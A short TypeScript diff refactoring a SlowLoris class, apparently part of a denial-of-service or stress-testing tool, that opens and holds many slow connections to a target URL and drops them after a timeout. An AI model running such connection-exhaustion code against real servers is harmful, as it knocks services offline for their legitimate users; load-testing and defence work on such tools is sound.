@@ -42,7 +42,7 @@ class SlowLoris implements Attack {
 
   async #drip({ url, bare }: Target): Promise<void> {
     for (let n = 0; this.#attacking || this.#dripping.size > 0; n++) {
-      this.#giveUp(bare);
+      if (bare) this.#giveUp();
       while (this.#attacking && this.#dripping.size < this.#count) {
         this.#open(url, Math.floor(this.#dripping.size / PER_SOURCE));
         if (this.#dripping.size % 50 === 0) await pause(1);
@@ -52,10 +52,9 @@ class SlowLoris implements Attack {
     }
   }
 
-  #giveUp(bare: boolean): void {
+  #giveUp(): void {
     for (const [socket, openedAt] of this.#dripping) {
       if (performance.now() - openedAt < GIVEN_UP_AFTER_MS) return;
-      if (!bare) this.#context.tally.add('outlasted');
       this.#dripping.delete(socket);
       socket.destroy();
     }
